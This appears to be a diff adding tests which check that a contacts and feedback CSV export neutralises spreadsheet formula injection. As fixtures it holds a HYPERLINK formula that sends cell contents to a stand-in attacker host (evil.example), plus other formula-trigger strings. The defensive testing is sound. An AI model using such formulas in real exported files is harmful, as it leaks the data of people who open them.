@@ -1,0 +1,79 @@
+import { afterAll, beforeAll, expect, test, vi } from "vitest";
+import { contactMessage } from "#server/contact/contact.schema.ts";
+import { openDatabase } from "#server/database/connect.ts";
+import { feedbackAnswer, feedbackCampaign } from "#server/feedback/feedback.schema.ts";
+import { testDatabase } from "#server/test/database.ts";
+import { contactCommands } from "./contact-commands.ts";
+import { csvOf } from "./csv.ts";
+import { feedbackCommands } from "./feedback-commands.ts";
+import { operate } from "./operate.ts";
+
+const database = await testDatabase();
+const { db, close } = openDatabase({ url: database.url });
+const hostile = '=HYPERLINK("http://evil.example?x="&A1)';
+beforeAll(async () => {
+  vi.stubEnv("DATABASE_URL", database.url);
+  await db.insert(contactMessage).values([
+    { ...letter("First"), name: hostile, message: 'He said "hi",\nand left' },
+    { ...letter("Second"), name: "@SUM(1+1)" },
+  ]);
+  const [campaign] = await db
+    .insert(feedbackCampaign)
+    .values({ title: { 2: "问卷" }, intro: {}, startsAt: new Date(), endsAt: new Date() })
+    .returning();
+  await db.insert(feedbackAnswer).values({
+    ...{ campaignId: campaign?.id ?? 0, device: crypto.randomUUID(), lang: 2, frequency: "daily", frequencyOther: "" },
+    ...{ purposes: ["event", "market"], purposesOther: "", channel: "other", channelOther: "\t-1+1" },
+    ...{ satisfaction: "good", satisfactionOther: "", suggestion: hostile },
+  });
+});
+afterAll(async () => {
+  vi.unstubAllEnvs();
+  await close();
+  await database.drop();
+});
+
+function letter(message: string) {
+  return {
+    ...{ lang: 2, name: "陈大文", gender: "", phone: "+85291234567", account: "", email: "a@example.com" },
+    ...{ country: "HK", messenger: "", messengerId: "", interest: "A", message, newsletter: false },
+  };
+}
+
+/** The cells of CSV, read by its rules (RFC 4180). */
+function cells(csv: string): string[][] {
+  return csv
+    .replace(/^\ufeff/, "")
+    .split("\r\n")
+    .map((row) => [...row.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell = ""]) => cell.replaceAll('""', '"')));
+}
+
+test("messages as CSV: everything in its cell, and no cell that a spreadsheet would run", async () => {
+  const [header = [], first = [], second = []] = cells(await operate([contactCommands], ["contacts", "export"]));
+  const at = (row: string[], name: string) => row[header.indexOf(name)];
+  expect([first.length, second.length]).toEqual([header.length, header.length]);
+  expect(at(first, "name")).toBe(`'${hostile}`);
+  expect(at(first, "message")).toBe('He said "hi",\nand left');
+  expect(at(first, "phone")).toBe("'+85291234567");
+  expect(at(second, "name")).toBe("'@SUM(1+1)");
+});
+
+test("messages in lines, newest first", async () => {
+  const lines = (await operate([contactCommands], ["contacts", "list", "--last", "1"])).split("\n");
+  expect(lines).toHaveLength(1);
+  await expect(operate([contactCommands], ["contacts", "list", "--last", "0"])).rejects.toThrow("--last takes");
+});
+
+test("answers as CSV", async () => {
+  const [header = [], row = []] = cells(await operate([feedbackCommands], ["feedback", "export"]));
+  const at = (name: string) => row[header.indexOf(name)];
+  expect([at("questionnaire"), at("purposes")]).toEqual(["问卷", "event market"]);
+  expect([at("channel_other"), at("suggestion")]).toEqual(["'\t-1+1", `'${hostile}`]);
+});
+
+test.each(["=1", "+1", "-1", "@a", " =1", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "|x", "%x"])(
+  "%j does not run",
+  (text) => {
+    expect(cells(csvOf(["a"], [[text]]).replace(/[\r\n](?==)/, " "))[1]?.[0]).toMatch(/^'/);
+  },
+);
